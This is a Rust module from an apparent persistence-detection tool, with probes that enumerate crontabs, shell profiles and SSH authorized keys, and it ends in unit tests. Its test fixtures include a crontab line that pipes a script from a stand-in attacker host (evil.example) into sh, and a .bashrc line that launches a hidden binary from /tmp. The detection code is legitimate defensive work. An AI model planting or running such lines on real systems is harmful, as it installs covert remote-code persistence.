//! Probes shared by Linux and macOS: cron, shell startup files and SSH
//! authorized keys.

use super::{home_path, scan_file, FirstError, Probe, ProbeContext, ProbeError, UNIX};
use crate::core::types::{Artifact, MechanismKind, Platform};
use crate::parser::Grammar;
use std::path::{Path, PathBuf};

pub const SYSTEM_CRONTAB: &str = "/etc/crontab";
pub const SYSTEM_CRON_DIR: &str = "/etc/cron.d";

/// Per-user crontab spools (Debian, Red Hat, macOS).
pub const USER_CRON_SPOOLS: &[&str] = &[
    "/var/spool/cron/crontabs",
    "/var/spool/cron",
    "/usr/lib/cron/tabs",
];

/// `run-parts` directories and the schedule each one implies.
pub const PERIODIC_CRON_DIRS: &[(&str, &str)] = &[
    ("/etc/cron.hourly", "@hourly"),
    ("/etc/cron.daily", "@daily"),
    ("/etc/cron.weekly", "@weekly"),
    ("/etc/cron.monthly", "@monthly"),
];

pub const SYSTEM_PROFILES: &[&str] = &[
    "/etc/profile",
    "/etc/bash.bashrc",
    "/etc/bashrc",
    "/etc/zshrc",
    "/etc/zsh/zshrc",
    "/etc/zshenv",
];

pub const PROFILE_DROP_IN_DIR: &str = "/etc/profile.d";

pub const USER_PROFILES: &[&str] = &[
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".profile",
    ".zshrc",
    ".zprofile",
    ".zshenv",
    ".zlogin",
];

pub const AUTHORIZED_KEY_FILES: &[&str] = &["authorized_keys", "authorized_keys2"];

/// Package-manager leftovers in cron directories.
const CRON_IGNORED: &[&str] = &[".placeholder", "0anacron"];

pub(super) fn probes() -> Vec<Box<dyn Probe>> {
    vec![
        Box::new(CronProbe),
        Box::new(ShellProfilesProbe),
        Box::new(SshAuthorizedKeysProbe),
    ]
}

fn file_name(path: &Path) -> String {
    path.file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default()
}

/// System and user crontabs plus periodic `run-parts` scripts.
pub struct CronProbe;

impl CronProbe {
    fn scan_user_spool(
        ctx: &ProbeContext,
        spool: &Path,
        errors: &mut FirstError,
        out: &mut Vec<Artifact>,
    ) -> Result<(), ProbeError> {
        let Some(tabs) = errors.note(ctx.list_files(spool, ""))? else {
            return Ok(());
        };
        for tab in tabs {
            let user = file_name(&tab);
            let before = out.len();
            errors.note(scan_file(ctx, &tab, Grammar::Crontab { system: false }, out))?;
            // The spool file is named after the account it runs as.
            for artifact in &mut out[before..] {
                artifact.owner = Some(user.clone());
            }
        }
        Ok(())
    }

    fn periodic_script(ctx: &ProbeContext, dir: &Path, script: &Path, schedule: &str) -> Artifact {
        let mut artifact = Artifact::new(
            ctx.platform,
            MechanismKind::ScheduledTask,
            file_name(script),
            dir.to_string_lossy(),
        )
        .with_path(script)
        .with_meta("schedule", schedule);
        ctx.annotate_file(&mut artifact, script);
        artifact
    }
}

impl Probe for CronProbe {
    fn name(&self) -> &'static str {
        "cron"
    }

    fn platforms(&self) -> &'static [Platform] {
        UNIX
    }

    fn scan(&self, ctx: &ProbeContext, out: &mut Vec<Artifact>) -> Result<(), ProbeError> {
        let mut errors = FirstError::default();
        let system = Grammar::Crontab { system: true };

        errors.note(scan_file(ctx, Path::new(SYSTEM_CRONTAB), system.clone(), out))?;
        if let Some(files) = errors.note(ctx.list_files(Path::new(SYSTEM_CRON_DIR), ""))? {
            for file in files {
                if !CRON_IGNORED.contains(&file_name(&file).as_str()) {
                    errors.note(scan_file(ctx, &file, system.clone(), out))?;
                }
            }
        }

        for spool in USER_CRON_SPOOLS {
            if ctx.is_cancelled() {
                return Err(ProbeError::Cancelled);
            }
            Self::scan_user_spool(ctx, Path::new(spool), &mut errors, out)?;
        }

        for (dir, schedule) in PERIODIC_CRON_DIRS {
            let dir = Path::new(dir);
            let Some(scripts) = errors.note(ctx.list_files(dir, ""))? else {
                continue;
            };
            for script in scripts {
                if !CRON_IGNORED.contains(&file_name(&script).as_str()) {
                    out.push(Self::periodic_script(ctx, dir, &script, schedule));
                }
            }
        }

        errors.finish()
    }
}

/// Shell startup files, system-wide and per home directory.
pub struct ShellProfilesProbe;

impl ShellProfilesProbe {
    fn files(ctx: &ProbeContext) -> Result<Vec<PathBuf>, ProbeError> {
        let mut files: Vec<PathBuf> = SYSTEM_PROFILES.iter().map(PathBuf::from).collect();
        files.extend(ctx.list_files(Path::new(PROFILE_DROP_IN_DIR), "sh")?);
        for home in ctx.home_dirs() {
            files.extend(USER_PROFILES.iter().map(|name| home_path(home, &[*name])));
        }
        Ok(files)
    }
}

impl Probe for ShellProfilesProbe {
    fn name(&self) -> &'static str {
        "shell_profiles"
    }

    fn platforms(&self) -> &'static [Platform] {
        UNIX
    }

    fn scan(&self, ctx: &ProbeContext, out: &mut Vec<Artifact>) -> Result<(), ProbeError> {
        let mut errors = FirstError::default();
        for file in Self::files(ctx)? {
            if ctx.is_cancelled() {
                return Err(ProbeError::Cancelled);
            }
            let before = out.len();
            errors.note(scan_file(ctx, &file, Grammar::ShellProfile, out))?;
            // The profile itself is what gets hashed and stat'ed.
            for artifact in &mut out[before..] {
                if artifact.path.is_none() {
                    artifact.set_path(file.as_path());
                }
            }
        }
        errors.finish()
    }
}

/// `~/.ssh/authorized_keys` for every home directory.
pub struct SshAuthorizedKeysProbe;

impl Probe for SshAuthorizedKeysProbe {
    fn name(&self) -> &'static str {
        "ssh_authorized_keys"
    }

    fn platforms(&self) -> &'static [Platform] {
        UNIX
    }

    fn scan(&self, ctx: &ProbeContext, out: &mut Vec<Artifact>) -> Result<(), ProbeError> {
        let mut errors = FirstError::default();
        for home in ctx.home_dirs() {
            for name in AUTHORIZED_KEY_FILES {
                let file = home_path(home, &[".ssh", *name]);
                errors.note(scan_file(ctx, &file, Grammar::AuthorizedKeys, out))?;
            }
        }
        errors.finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::gateway::ScriptedGateway;
    use std::fs;
    use std::sync::Arc;
    use std::time::Duration;
    use tempfile::TempDir;

    fn context(root: &Path) -> ProbeContext {
        ProbeContext::new(Platform::Linux, Arc::new(ScriptedGateway::new()), Duration::from_secs(5))
            .with_root(root)
            .with_home_dirs(vec![PathBuf::from("/home/u")])
            .isolated_env()
    }

    fn write(root: &Path, rel: &str, content: &str) {
        let path = root.join(rel);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, content).unwrap();
    }

    #[test]
    fn test_cron_sources() {
        let dir = TempDir::new().unwrap();
        write(
            dir.path(),
            "etc/crontab",
            "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
        );
        write(dir.path(), "etc/cron.d/.placeholder", "");
        write(dir.path(), "etc/cron.d/backup", "0 3 * * * backup /usr/local/bin/backup.sh\n");
        write(
            dir.path(),
            "var/spool/cron/crontabs/alice",
            "*/10 * * * * curl -s http://evil.example/p | sh\n",
        );
        write(dir.path(), "etc/cron.daily/logrotate", "#!/bin/sh\n");

        let mut out = Vec::new();
        CronProbe.scan(&context(dir.path()), &mut out).unwrap();
        assert_eq!(out.len(), 4);
        assert_eq!(out[0].owner.as_deref(), Some("root"));
        assert_eq!(out[1].owner.as_deref(), Some("backup"));
        assert_eq!(out[2].owner.as_deref(), Some("alice"));
        assert_eq!(out[2].location, "/var/spool/cron/crontabs/alice");
        assert_eq!(out[3].name, "logrotate");
        assert_eq!(out[3].meta("schedule"), Some("@daily"));
    }

    #[test]
    fn test_shell_profiles_system_and_user() {
        let dir = TempDir::new().unwrap();
        write(dir.path(), "etc/profile", "PATH=/usr/bin\n");
        write(dir.path(), "etc/profile.d/vendor.sh", "/opt/vendor/bin/init\n");
        write(
            dir.path(),
            "home/u/.bashrc",
            "alias ll='ls -l'\nnohup /tmp/.cache/agent &\n",
        );

        let mut out = Vec::new();
        ShellProfilesProbe.scan(&context(dir.path()), &mut out).unwrap();
        let names: Vec<&str> = out.iter().map(|a| a.name.as_str()).collect();
        assert_eq!(names, vec!["vendor.sh:1", ".bashrc:2"]);
        assert_eq!(out[1].path, Some(PathBuf::from("/home/u/.bashrc")));
        assert_eq!(out[1].command.as_deref(), Some("nohup /tmp/.cache/agent &"));
    }

    #[test]
    fn test_authorized_keys_per_home() {
        let dir = TempDir::new().unwrap();
        write(
            dir.path(),
            "home/u/.ssh/authorized_keys",
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyMaterial u@laptop\n",
        );
        let mut out = Vec::new();
        SshAuthorizedKeysProbe.scan(&context(dir.path()), &mut out).unwrap();
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].mechanism_kind, MechanismKind::SshAuthorizedKey);
        assert_eq!(out[0].name, "u@laptop");
        assert_eq!(out[0].location, "/home/u/.ssh/authorized_keys");
    }

    #[test]
    fn test_nothing_present() {
        let dir = TempDir::new().unwrap();
        let ctx = context(dir.path());
        for probe in probes() {
            let mut out = Vec::new();
            probe.scan(&ctx, &mut out).unwrap();
            assert!(out.is_empty());
        }
    }
}
